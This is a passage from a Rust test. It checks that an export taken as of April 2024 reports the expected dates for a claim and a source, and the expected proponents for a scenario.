    );
    let late = export("2024-04-01");
    let all_late = late["claims"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == "all-late")
        .unwrap();
    assert_eq!(all_late["date"], "2024-03-02");
    assert_eq!(all_late["effective"], "2024-03-20");
    let report = late["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == "report")
        .unwrap();
    assert_eq!(report["published"], "2024-03-20");
    assert_eq!(
        late["scenarios"][0]["proponents"],
        serde_json::json!(["the wire service", "the inquiry"])
    );
}
